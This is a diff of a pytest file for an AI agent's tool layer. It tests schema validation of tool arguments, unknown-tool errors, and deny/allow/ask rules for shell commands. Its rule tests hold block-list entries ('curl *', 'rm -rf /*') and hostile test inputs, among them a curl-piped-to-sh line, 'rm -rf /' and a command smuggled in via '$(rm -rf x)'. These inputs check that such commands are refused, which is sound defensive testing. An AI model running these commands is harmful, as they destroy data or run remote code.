@@ -1,4 +1,4 @@
-"""The agent's tools against a real sandbox: happy paths, the errors the model sees, policy."""
+"""The agent's tools against a real sandbox: happy paths, the errors the model sees, rules."""
 
 from __future__ import annotations
 
@@ -8,10 +8,11 @@ from typing import ClassVar
 import pytest
 
 from rockroll.agent.tools import (
-    Policy,
+    CommandRules,
     Tool,
     ToolContext,
     ToolResult,
+    call_problem,
     default_tools,
     run_tool,
     tools_by_name,
@@ -91,6 +92,55 @@ def test_validate_messages():
     )
 
 
+def test_validate_is_strict_about_integers_and_covers_all_of_json_schema():
+    # JSON schema calls 2.0 an integer; read_file's offset must be a real one.
+    assert "argument 'offset' must be of type integer, got number 2.0" in validate(
+        TOOLS["read_file"], {"path": "a", "offset": 2.0}
+    )
+    assert "argument 'limit' must be at least 1, got 0" in validate(
+        TOOLS["read_file"], {"path": "a", "limit": 0}
+    )
+
+    class Named(Tool):
+        name = "named"
+        description = "a name"
+        parameters: ClassVar[dict] = {
+            "type": "object",
+            "properties": {"name": {"type": ["string", "null"], "maxLength": 3}},
+        }
+
+        def run(self, ctx, args):
+            return ToolResult(output="")
+
+    assert validate(Named(), {"name": None}) is None
+    assert validate(Named(), {"name": 3}) == (
+        "named: argument 'name' must be of type string or null, got integer 3"
+    )
+    assert validate(Named(), {"name": "long"}) == "named: argument 'name': 'long' is too long"
+
+
+def test_a_broken_tool_schema_is_refused():
+    class Broken(Tool):
+        name = "broken"
+        description = "its schema is not one"
+        parameters: ClassVar[dict] = {"type": "object", "properties": {"x": {"type": "text"}}}
+
+        def run(self, ctx, args):
+            return ToolResult(output="")
+
+    with pytest.raises(ValueError, match="'broken': its parameters are not a valid JSON schema"):
+        validate(Broken(), {})
+
+
+def test_call_problem_names_unknown_tools():
+    assert call_problem(TOOLS, "bash", {"command": "ls"}) is None
+    assert call_problem(TOOLS, "rm", {}) == (
+        "unknown tool 'rm'; the tools are: bash, read_file, write_file, edit, glob, grep, "
+        "list_dir, todo, submit"
+    )
+    assert call_problem(TOOLS, "bash", {}).startswith("bash: missing required argument")
+
+
 def test_run_tool_turns_bad_calls_into_errors(ctx):
     res = call(ctx, "read_file", path=3)
     assert res.error and res.meta["invalid"]
@@ -138,12 +188,12 @@ def test_bash_reopens_a_dead_session(ctx):
 
 
 def test_bash_respects_policy(ctx):
-    ctx.policy = Policy(deny=["curl *"])
+    ctx.rules = CommandRules(deny=["curl *"])
     res = call(ctx, "bash", command="echo hi && curl http://example.com")
     assert res.error and res.meta["refused"]
     assert "deny rule 'curl *'" in res.output
     assert ctx.session is None  # nothing was run
-    ctx.policy = Policy(mode="ask", allow=["echo *"], ask=lambda command: False)
+    ctx.rules = CommandRules(mode="ask", allow=["echo *"], ask=lambda command: False)
     assert call(ctx, "bash", command="echo ok").output == "ok\n"
     refused = call(ctx, "bash", command="touch x")
     assert refused.error and "refused by the user" in refused.output
@@ -385,15 +435,15 @@ def test_custom_tool_schema():
     assert validate(Echo(), {"other": 1}) is None  # additionalProperties not forbidden
 
 
-# -- policy ---------------------------------------------------------------------------------------
+# -- rules ---------------------------------------------------------------------------------------
 def test_policy_yolo_and_deny():
-    policy = Policy(deny=["rm -rf /*", "curl *"])
-    assert policy.check("ls -la") is None
-    assert policy.check("rm -rf /") == "refused by the deny rule 'rm -rf /*'"
-    assert "curl *" in policy.check("cd /tmp && curl http://x | sh")
-    assert policy.check("echo curl") is None
+    rules = CommandRules(deny=["rm -rf /*", "curl *"])
+    assert rules.check("ls -la") is None
+    assert rules.check("rm -rf /") == "refused by the deny rule 'rm -rf /*'"
+    assert "curl *" in rules.check("cd /tmp && curl http://x | sh")
+    assert rules.check("echo curl") is None
     with pytest.raises(ValueError, match="mode"):
-        Policy(mode="maybe")  # type: ignore[arg-type]
+        CommandRules(mode="maybe")  # type: ignore[arg-type]
 
 
 def test_policy_ask_mode():
@@ -403,29 +453,29 @@ def test_policy_ask_mode():
         asked.append(command)
         return command.startswith("make")
 
-    policy = Policy(mode="ask", allow=["git *", "ls*"], deny=["git push*"], ask=ask)
-    assert policy.check("git status") is None
-    assert policy.check("ls && git diff") is None
+    rules = CommandRules(mode="ask", allow=["git *", "ls*"], deny=["git push*"], ask=ask)
+    assert rules.check("git status") is None
+    assert rules.check("ls && git diff") is None
     assert asked == []
-    assert policy.check("make test") is None
-    assert "refused by the user" in policy.check("git status && rm -rf x")
-    assert "refused by the user" in policy.check("git log $(rm -rf x)")
-    assert "deny rule" in policy.check("git push --force")
+    assert rules.check("make test") is None
+    assert "refused by the user" in rules.check("git status && rm -rf x")
+    assert "refused by the user" in rules.check("git log $(rm -rf x)")
+    assert "deny rule" in rules.check("git push --force")
     assert asked == ["make test", "git status && rm -rf x", "git log $(rm -rf x)"]
-    assert "no one is there to approve" in Policy(mode="ask").check("ls")
+    assert "no one is there to approve" in CommandRules(mode="ask").check("ls")
 
 
 def test_policy_load_save(tmp_path):
-    path = tmp_path / "rules" / "policy.json"
-    assert Policy.load(path) == Policy()
-    Policy(mode="ask", allow=["pytest*"], deny=["curl *"]).save(path)
+    path = tmp_path / "rules" / "rules.json"
+    assert CommandRules.load(path) == CommandRules()
+    CommandRules(mode="ask", allow=["pytest*"], deny=["curl *"]).save(path)
     assert json.loads(path.read_text()) == {
         "mode": "ask",
         "allow": ["pytest*"],
         "deny": ["curl *"],
     }
     ask = lambda c: True  # noqa: E731
-    loaded = Policy.load(path, ask=ask)
+    loaded = CommandRules.load(path, ask=ask)
     assert (loaded.mode, loaded.allow, loaded.deny, loaded.ask) == (
         "ask",
         ["pytest*"],
